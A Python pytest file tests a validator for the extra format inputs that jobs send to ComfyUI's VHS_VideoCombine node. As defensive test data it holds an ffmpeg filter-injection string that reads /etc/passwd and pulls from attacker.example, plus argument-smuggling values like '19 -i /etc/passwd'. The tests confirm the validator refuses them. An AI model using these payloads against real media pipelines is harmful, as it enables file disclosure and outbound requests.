"""VHS_VideoCombine's per-format inputs (worker/policy/vhs.py): what each format declares, and
the check of the extra keys a job gives the node.

The declarations come from two places that must agree: the real /object_info of the locked node
set (support.fake_comfyui.object_info) and VideoHelperSuite's own format files, read from
$COMFYUI_SRC (a folder holding ComfyUI/ and custom_nodes/; the files are copied into tmp_path,
the source is never written). Without COMFYUI_SRC the tests that need the files are skipped with
the reason, except with CI=true, where that is a failure. Where a test needs VHS's own
`apply_format_widgets`, it runs that function's source (with `iterate_format` and
`flatten_list`), extracted from videohelpersuite/nodes.py, on the copied files.
"""

from __future__ import annotations

import ast
import json
import logging
import os
import shutil
from pathlib import Path
from string import Template
from typing import Any

import pytest
from support import real_comfyui
from support.fake_comfyui import object_info

from worker.policy.vhs import (
    CONFLICT,
    FILTER_GRAPH_WIDGETS,
    RESERVED,
    STRING_WIDGETS,
    check_format_inputs,
    declarations,
    format_inputs,
    format_inputs_from_object_info,
    is_link,
    load_format,
    vhs_widgets,
    widget_uses,
)

VHS = "ComfyUI-VideoHelperSuite"
REPO = Path(__file__).resolve().parents[2]

# The attack: a filter chain appended to paletteuse's dither option in -filter_complex.
INJECTION = (
    "bayer,drawtext=textfile=/etc/passwd:fontsize=20"
    ";movie=filename=http\\\\://attacker.example/x,nullsink"
)


def vhs_source() -> Path:
    """VideoHelperSuite's folder in $COMFYUI_SRC (either accepted layout); skips, or fails in CI."""
    raw = os.environ.get(real_comfyui.SOURCE_ENV, "").strip()
    if not raw:
        real_comfyui.unavailable(
            f"{real_comfyui.SOURCE_ENV} is not set: it names the ComfyUI source whose "
            f"custom_nodes/{VHS}/video_formats these tests read"
        )
    root = Path(raw)
    for nodes in (root / "custom_nodes", root / "ComfyUI" / "custom_nodes"):
        if (nodes / VHS / "video_formats").is_dir():
            return nodes / VHS
    real_comfyui.unavailable(f"{real_comfyui.SOURCE_ENV}={raw}: no custom_nodes/{VHS}/ there")
    raise AssertionError("unreachable")


@pytest.fixture
def vhs_dir(tmp_path: Path) -> Path:
    """A copy of VHS's format files (and nodes.py, read for apply_format_widgets)."""
    src = vhs_source()
    dest = tmp_path / VHS
    shutil.copytree(src / "video_formats", dest / "video_formats")
    (dest / "videohelpersuite").mkdir()
    shutil.copy2(src / "videohelpersuite" / "nodes.py", dest / "videohelpersuite" / "nodes.py")
    return dest


@pytest.fixture(scope="module")
def table() -> dict[str, dict[str, list]]:
    return format_inputs_from_object_info(object_info())


def vhs_apply(vhs_dir: Path, format_ext: str, kwargs: dict[str, Any]) -> dict[str, Any]:
    """VHS's own apply_format_widgets(format_ext, kwargs) on the format files of `vhs_dir`."""
    source = (vhs_dir / "videohelpersuite" / "nodes.py").read_text(encoding="utf-8")
    wanted = {"flatten_list", "iterate_format", "apply_format_widgets"}
    functions = [
        node
        for node in ast.parse(source).body
        if isinstance(node, ast.FunctionDef) and node.name in wanted
    ]
    assert {f.name for f in functions} == wanted, "VHS's nodes.py no longer has these functions"
    scope: dict[str, Any] = {
        "os": os,
        "json": json,
        "Template": Template,
        "logger": logging.getLogger("vhs-test"),
        "base_formats_dir": str(vhs_dir / "video_formats"),
    }
    exec(compile(ast.Module(functions, []), "vhs-nodes", "exec"), scope)
    return scope["apply_format_widgets"](format_ext, dict(kwargs))


def vhs_default(decl: list) -> Any:
    """The value apply_format_widgets fills in for a widget the job leaves out."""
    kind, opts = decl[0], decl[1]
    if "default" in opts:
        return opts["default"]
    if isinstance(kind, list):
        return kind[0]
    return {"BOOLEAN": False, "INT": 0, "FLOAT": 0, "STRING": ""}[kind]


# --- where the declarations come from ---------------------------------------------------------


def test_object_info_carries_the_format_widgets(table):
    assert set(table) == {
        "image/gif",
        "image/webp",
        "video/ProRes",
        "video/webm",
        "video/ffv1-mkv",
        "video/nvenc_av1-mp4",
        "video/h265-mp4",
        "video/8bit-png",
        "video/h264-mp4",
        "video/nvenc_hevc-mp4",
        "video/nvenc_h264-mp4",
        "video/ffmpeg-gif",
        "video/av1-webm",
        "video/16bit-png",
    }
    assert table["image/gif"] == {} and table["video/8bit-png"] == {}
    assert table["image/webp"] == {"lossless": ["BOOLEAN", {"default": True}]}
    assert table["video/h264-mp4"] == {
        "pix_fmt": [["yuv420p", "yuv420p10le"], {}],
        "crf": ["INT", {"default": 19, "min": 0, "max": 100, "step": 1}],
        "save_metadata": ["BOOLEAN", {"default": True}],
        "trim_to_audio": ["BOOLEAN", {"default": False}],
    }
    # extra_widgets; the ["profile", {...}] mapping in main_pass is not a widget
    assert table["video/ProRes"] == {
        "profile": [["lt", "standard", "hq", "4444", "4444xq"], {"default": "hq"}]
    }
    # a template widget: the template is how VHS uses the value, not part of the declaration
    assert table["video/ffmpeg-gif"]["dither"][0][-1] == "none"
    assert table["video/ffmpeg-gif"]["dither"][1] == {"default": "sierra2_4a"}
    # a top-level key widget
    assert table["video/av1-webm"]["input_color_depth"] == [["8bit", "16bit"], {}]


def test_the_format_files_give_what_object_info_carries(vhs_dir, table):
    # the locked object_info was taken without gifski, as the worker's image runs
    assert format_inputs(vhs_dir, gifski=False) == table


def test_gifski_formats_are_listed_only_with_gifski(vhs_dir):
    gifski_formats = {
        "video/" + p.stem
        for p in (vhs_dir / "video_formats").glob("*.json")
        if "gifski_pass" in load_format(p)
    }
    assert gifski_formats == {"video/gifski"}
    assert not gifski_formats & set(format_inputs(vhs_dir, gifski=False))
    with_gifski = format_inputs(vhs_dir, gifski=True)
    assert with_gifski["video/gifski"] == {
        "quality": ["INT", {"default": 90, "min": 1, "max": 100, "step": 1}]
    }
    assert set(with_gifski) == {"image/gif", "image/webp"} | {
        "video/" + p.stem for p in (vhs_dir / "video_formats").glob("*.json")
    }


def test_object_info_accepts_the_node_entry_and_the_combo_form(table):
    entry = object_info()["VHS_VideoCombine"]
    assert format_inputs_from_object_info(entry) == table
    options, extra = entry["input"]["required"]["format"]
    combo = {"input": {"required": {"format": ["COMBO", {"options": options, **extra}]}}}
    assert format_inputs_from_object_info(combo) == table
    assert format_inputs_from_object_info({"SaveImage": {}}) == {}


def test_widgets_as_vhs_iterates_them():
    video_format = {
        "main_pass": [
            "-n",
            "-x",
            ["a", "INT", {"default": 1, "min": 0, "max": 2}],
            "-y",
            [["$b"]],
            ["b", {"one": [[]], "two": ["c", {"True": [[]]}]}],
            "-vf",
            ["d", ["p", "q"], {"default": "q"}, "f=$val"],
        ],
        "audio_pass": ["-filter:a", ["e", ["volume=1"]], "-c:a", ["f", ["aac"]]],
        "extra_widgets": [["b", ["one", "two"]]],
        "flag": ["flag", "BOOLEAN", {"default": True}],
        "environment": {"X": "1"},
        "extension": "mp4",
    }
    assert declarations(vhs_widgets(video_format)) == {
        "a": ["INT", {"default": 1, "min": 0, "max": 2}],
        "b": [["one", "two"], {}],
        "d": [["p", "q"], {"default": "q"}],
        "e": [["volume=1"], {}],
        "f": [["aac"], {}],
        "flag": ["BOOLEAN", {"default": True}],
    }
    uses = {(name, kind) for name, kind, _ in widget_uses(video_format)}
    assert {("d", "filter"), ("e", "filter"), ("f", "argv"), ("b", "argv")} <= uses
    assert {("a", "argv"), ("b", "select"), ("c", "select"), ("flag", "key")} <= uses
    assert ("d", "argv") not in uses and ("e", "argv") not in uses
    assert declarations([["x", "INT"], ["x", "FLOAT"]]) == {"x": [CONFLICT, {}]}
    assert declarations([["x", "INT"], ["x", "INT"], [1, "INT"], "junk"]) == {"x": ["INT", {}]}


# --- the audit of the locked format files ----------------------------------------------------


def test_only_the_known_widgets_reach_a_filter_graph(vhs_dir):
    found = set()
    for path in (vhs_dir / "video_formats").glob("*.json"):
        for name, kind, _ in widget_uses(load_format(path)):
            if kind == "filter":
                found.add(("video/" + path.stem, name))
    assert found == set(FILTER_GRAPH_WIDGETS)
    declared = format_inputs(vhs_dir, gifski=True)
    for format_name, name in found:
        decl = declared[format_name][name]
        assert isinstance(decl[0], list), f"{format_name} {name}: not a closed combo"


def test_string_widgets_are_the_listed_ones(vhs_dir):
    found = {
        (format_name, name)
        for format_name, declared in format_inputs(vhs_dir, gifski=True).items()
        for name, decl in declared.items()
        if decl[0] == "STRING"
    }
    assert found == set(STRING_WIDGETS)


def test_every_value_vhs_reads_from_the_job_is_declared_or_set_by_vhs(vhs_dir):
    declared = format_inputs(vhs_dir, gifski=True)
    for path in (vhs_dir / "video_formats").glob("*.json"):
        for name, _, detail in widget_uses(load_format(path)):
            assert name in declared["video/" + path.stem] or name == "has_alpha", (path, detail)


def test_vhs_applies_every_format_with_the_defaults(vhs_dir):
    for format_name, declared in format_inputs(vhs_dir, gifski=True).items():
        if not format_name.startswith("video/"):
            continue
        extra = {name: vhs_default(decl) for name, decl in declared.items()}
        assert check_format_inputs(format_name, extra, declared) == []
        applied = vhs_apply(vhs_dir, format_name[len("video/") :], {**extra, "has_alpha": False})
        assert all(isinstance(arg, str) for arg in applied["main_pass"]), format_name


def test_the_injection_reaches_the_filter_graph_and_is_refused(vhs_dir):
    applied = vhs_apply(vhs_dir, "ffmpeg-gif", {"dither": INJECTION, "has_alpha": False})
    graph = applied["main_pass"][applied["main_pass"].index("-filter_complex") + 1]
    assert "paletteuse=dither=bayer,drawtext=textfile=/etc/passwd" in graph
    assert "movie=filename=http" in graph
    declared = format_inputs(vhs_dir)["video/ffmpeg-gif"]
    problems = check_format_inputs("video/ffmpeg-gif", {"dither": INJECTION}, declared)
    assert len(problems) == 1 and "'dither'" in problems[0] and "one of" in problems[0]
    # every accepted value leaves the graph's shape alone: one word after dither=
    for word in declared["dither"][0]:
        assert check_format_inputs("video/ffmpeg-gif", {"dither": word}, declared) == []
        applied = vhs_apply(vhs_dir, "ffmpeg-gif", {"dither": word, "has_alpha": False})
        assert applied["main_pass"][-1].endswith(f"paletteuse=dither={word}")


# --- the check --------------------------------------------------------------------------------


def _shipped_workflow_extras() -> dict[str, Any]:
    prompt = json.loads((REPO / "worker" / "workflows" / "wan_flf_i2v_api.json").read_text())
    (node,) = [n for n in prompt.values() if n["class_type"] == "VHS_VideoCombine"]
    declared = object_info()["VHS_VideoCombine"]["input"]
    own = set(declared["required"]) | set(declared.get("optional", {}))
    return {k: v for k, v in node["inputs"].items() if k not in own}


ACCEPTED = [
    ("image/gif", {}),
    ("image/webp", {"lossless": True}),
    ("image/webp", {"lossless": False}),
    ("video/h264-mp4", _shipped_workflow_extras()),
    (
        "video/h264-mp4",
        {"pix_fmt": "yuv420p10le", "crf": 0, "save_metadata": False, "trim_to_audio": True},
    ),
    ("video/h264-mp4", {"crf": 100}),
    ("video/h264-mp4", {}),
    ("video/h265-mp4", {"pix_fmt": "yuv420p", "crf": 28, "save_metadata": True}),
    ("video/webm", {"pix_fmt": "yuva420p", "crf": 20, "trim_to_audio": False}),
    ("video/av1-webm", {"pix_fmt": "yuv420p10le", "crf": 23, "input_color_depth": "16bit"}),
    ("video/ProRes", {"profile": "hq"}),
    ("video/ProRes", {"profile": "4444xq"}),
    ("video/ffmpeg-gif", {"dither": "sierra2_4a"}),
    ("video/ffmpeg-gif", {"dither": "none"}),
    ("video/ffv1-mkv", {"level": "3", "coder": "1", "slices": "16", "gop_size": 300}),
    ("video/nvenc_h264-mp4", {"pix_fmt": "p010le", "bitrate": 999, "megabit": False}),
    ("video/nvenc_hevc-mp4", {"bitrate": 1, "megabit": True, "save_metadata": False}),
    ("video/16bit-png", {}),
]


@pytest.mark.parametrize(("format_name", "extra"), ACCEPTED)
def test_legitimate_extras_are_accepted(table, format_name, extra):
    assert check_format_inputs(format_name, extra, table[format_name]) == []


@pytest.mark.parametrize("format_name", sorted(format_inputs_from_object_info(object_info())))
def test_the_defaults_vhs_fills_are_accepted(table, format_name):
    declared = table[format_name]
    defaults = {name: vhs_default(decl) for name, decl in declared.items()}
    assert check_format_inputs(format_name, defaults, declared) == []


REFUSED = [
    # (format, extras, the refused key, a word of the reason)
    ("video/h264-mp4", {"crf": 19, "foo": 1}, "foo", "no such input"),
    ("video/ffmpeg-gif", {"crf": 19}, "crf", "no such input"),
    ("image/gif", {"pix_fmt": "yuv420p"}, "pix_fmt", "no such input"),
    ("video/h264-mp4", {"lossless": True}, "lossless", "no such input"),
    ("video/h264-mp4", {"crf": 101}, "crf", "maximum"),
    ("video/h264-mp4", {"crf": -1}, "crf", "minimum"),
    ("video/h264-mp4", {"crf": "19"}, "crf", "integer"),
    ("video/h264-mp4", {"crf": "19 -i /etc/passwd"}, "crf", "integer"),
    ("video/h264-mp4", {"crf": 19.5}, "crf", "integer"),
    ("video/h264-mp4", {"crf": True}, "crf", "integer"),
    ("video/h264-mp4", {"crf": None}, "crf", "integer"),
    ("video/h264-mp4", {"pix_fmt": "yuv444p"}, "pix_fmt", "one of"),
    ("video/h264-mp4", {"pix_fmt": "-vf"}, "pix_fmt", "one of"),
    ("video/h264-mp4", {"save_metadata": "False"}, "save_metadata", "true or false"),
    ("video/h264-mp4", {"save_metadata": 0}, "save_metadata", "true or false"),
    ("video/h264-mp4", {"crf": ["7", 0]}, "crf", "link"),
    ("video/h264-mp4", {"pix_fmt": ["7", 0]}, "pix_fmt", "link"),
    ("video/ffmpeg-gif", {"dither": INJECTION}, "dither", "one of"),
    ("video/ffmpeg-gif", {"dither": "bayer[x];[x]null"}, "dither", "one of"),
    ("video/ffmpeg-gif", {"dither": "Bayer"}, "dither", "one of"),
    ("video/ffmpeg-gif", {"dither": ["12", 0]}, "dither", "link"),
    ("video/ffmpeg-gif", {"manual_format_widgets": {"dither": INJECTION}}, "manual", "not a"),
    ("video/h264-mp4", {"latents": ["3", 0]}, "latents", "not a"),
    ("video/h264-mp4", {"has_alpha": True}, "has_alpha", "not a"),
    ("video/h264-mp4", {"prompt": {}}, "prompt", "not a"),
    ("video/h264-mp4", {"unique_id": "9"}, "unique_id", "not a"),
    ("video/h264-mp4", {"extra_pnginfo": {"workflow": {}}}, "extra_pnginfo", "not a"),
    ("video/ProRes", {"profile": "1"}, "profile", "one of"),
    ("video/ProRes", {"profile": "hq -i x"}, "profile", "one of"),
    ("video/av1-webm", {"input_color_depth": "32bit"}, "input_color_depth", "one of"),
    ("video/nvenc_h264-mp4", {"bitrate": 0}, "bitrate", "minimum"),
    ("video/nvenc_h264-mp4", {"bitrate": 1000}, "bitrate", "maximum"),
    ("video/nvenc_h264-mp4", {"bitrate": "10M"}, "bitrate", "integer"),
    ("video/nvenc_h264-mp4", {"megabit": "True"}, "megabit", "true or false"),
    ("video/ffv1-mkv", {"slices": 16}, "slices", "one of"),
    ("video/ffv1-mkv", {"gop_size": 0}, "gop_size", "minimum"),
    ("image/webp", {"lossless": "yes"}, "lossless", "true or false"),
]


@pytest.mark.parametrize(("format_name", "extra", "key", "why"), REFUSED)
def test_attacker_extras_are_refused(table, format_name, extra, key, why):
    problems = check_format_inputs(format_name, extra, table[format_name])
    assert len(problems) == 1, problems
    assert key in problems[0] and why in problems[0], problems[0]


def test_each_bad_key_is_reported():
    declared = {"crf": ["INT", {"min": 0, "max": 100}]}
    problems = check_format_inputs("video/x", {"crf": 1000, "a": 1, "b": 2}, declared)
    assert len(problems) == 3


def test_a_format_missing_from_the_table_declares_nothing():
    assert check_format_inputs("video/nope", {}, {}) == []
    assert check_format_inputs("video/nope", {"crf": 1}, {}) != []


def test_string_widgets_take_only_their_default():
    declared = {
        "tag": ["STRING", {"default": "hvc1"}],
        "free": ["STRING", {}],
    }
    assert check_format_inputs("video/x", {"tag": "hvc1", "free": ""}, declared) == []
    for extra in (
        {"tag": "avc1"},
        {"tag": "hvc1,movie=/etc/passwd"},
        {"tag": ""},
        {"free": "x"},
        {"free": "-i"},
        {"tag": 1},
    ):
        assert len(check_format_inputs("video/x", extra, declared)) == 1, extra


def test_floats_and_other_types():
    declared = {
        "gamma": ["FLOAT", {"min": 0.5, "max": 2.0}],
        "any": ["FLOAT", {}],
        "mode": ["COMBO", {"options": ["a", "b"]}],
        "num": [[1, 2], {}],
        "blob": ["VHS_AUDIO", {}],
        "twice": [CONFLICT, {}],
    }
    ok = {"gamma": 1, "any": -1e300, "mode": "b", "num": 2}
    assert check_format_inputs("video/x", ok, declared) == []
    for extra in (
        {"gamma": 0.4},
        {"gamma": 2.5},
        {"gamma": float("nan")},
        {"any": float("inf")},
        {"gamma": True},
        {"mode": "c"},
        {"num": True},
        {"num": 2.0},
        {"num": "2"},
        {"blob": {}},
        {"twice": 1},
    ):
        assert len(check_format_inputs("video/x", extra, declared)) == 1, extra


def test_is_link():
    assert is_link(["5", 0])
    assert not is_link(["5", "0"]) and not is_link([5, 0]) and not is_link(["5", 0, 1])
    assert not is_link(["5", True]) and not is_link("5")


def test_reserved_are_never_extras_even_if_a_format_declares_them():
    declared = {name: ["BOOLEAN", {}] for name in RESERVED}
    problems = check_format_inputs("video/x", dict.fromkeys(RESERVED, True), declared)
    assert len(problems) == len(RESERVED)
